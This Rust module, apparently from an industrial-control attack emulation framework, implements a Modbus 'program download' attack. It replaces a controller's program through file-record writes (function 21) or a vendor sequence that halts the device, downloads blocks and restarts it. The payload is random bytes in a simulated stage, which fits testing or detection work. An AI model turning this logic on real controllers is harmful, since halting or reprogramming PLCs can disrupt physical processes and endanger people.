//! Program download: another program is written to a controller in blocks, as file records or by the
//! vendor's function, and started.

use super::{Attack, Needs, technique};
use crate::net::reach::{Reach, UNIT, vendor};
use crate::plant::device::VENDOR_BLOCK;
use crate::stage::{Outcome, Stage};

pub static ATTACK: Attack = Attack {
    name: "program-download",
    about: "writes another program to a controller and starts it",
    technique: technique("T0843"),
    acceptable: &["T0889", "T0821"],
    grade: "A",
    kind: "fast",
    proto: "modbus",
    variants: &["records", "vendor"],
    needs: Needs::Sockets,
    seconds: [1150, 80, 3],
    run: |stage| Box::pin(run(stage)),
};

async fn run(mut stage: Stage) -> Outcome {
    let controller = stage.controller();
    let mut master = stage.stranger().reach(controller);
    let program = stage.rng.bytes(PROGRAM);
    let gap = stage.by(13.0, 0.9, 0.02);
    if stage.is("vendor") {
        orders(&mut stage, &mut master, &program, gap).await?;
    } else {
        records(&mut stage, &mut master, FILE, &program, gap).await?;
        stage.pause(gap).await;
        master.restart().await?;
    }
    stage.changed(format!("{controller} program of {PROGRAM} bytes replaced"));
    stage.recovers(90.0);
    Ok(())
}

/// Writes `data` as records of a file (function 21), and of the next ones when that is full.
pub(super) async fn records(
    stage: &mut Stage,
    master: &mut Reach,
    file: u16,
    data: &[u8],
    gap: f64,
) -> Outcome {
    for (nth, block) in data.chunks(BLOCK).enumerate() {
        let words = (block.len() / 2) as u16;
        let first = nth * BLOCK / 2;
        let (file, record) = (file + (first / FILE_RECORDS) as u16, (first % FILE_RECORDS) as u16);
        let mut body = vec![block.len() as u8 + 7, 6];
        for word in [file, record, words] {
            body.extend_from_slice(&word.to_be_bytes());
        }
        body.extend_from_slice(block);
        master.special(UNIT, 21, &body).await?;
        stage.pause(gap).await;
    }
    Ok(())
}

/// Halts the controller, writes the program and runs it, by the vendor's function.
async fn orders(stage: &mut Stage, master: &mut Reach, program: &[u8], gap: f64) -> Outcome {
    let session = 0x40 | stage.rng.below(0x3f) as u8;
    master.vendor(0, vendor::HELLO, &[0]).await?;
    master.vendor(0, vendor::RESERVE, vendor::WHO).await?;
    stage.pause(gap).await;
    master.vendor(session, vendor::STOP, vendor::NOW).await?;
    master.vendor(session, vendor::DOWNLOAD, &[0, 1]).await?;
    for (nth, block) in (0_u16..).zip(program.chunks(VENDOR_BLOCK)) {
        let ([low, high], size) = (nth.to_le_bytes(), block.len() as u8);
        let body = [&[0, 1, low, high, size, 0], block].concat();
        master.vendor(session, vendor::DOWNLOAD_BLOCK, &body).await?;
        stage.pause(gap).await;
    }
    master.vendor(session, vendor::DOWNLOAD_END, &[0, 1]).await?;
    master.vendor(session, vendor::START, vendor::NOW).await?;
    master.vendor(session, vendor::RELEASE, &[]).await?;
    Ok(())
}

/// Bytes in a message of file records: below the 244 that the standard allows.
pub(super) const BLOCK: usize = 240;
/// Records of a file (Application Protocol, 6.14).
const FILE_RECORDS: usize = 10_000;
/// The file that holds the program.
const FILE: u16 = 4;
/// How large the program is.
const PROGRAM: usize = 84 * BLOCK;
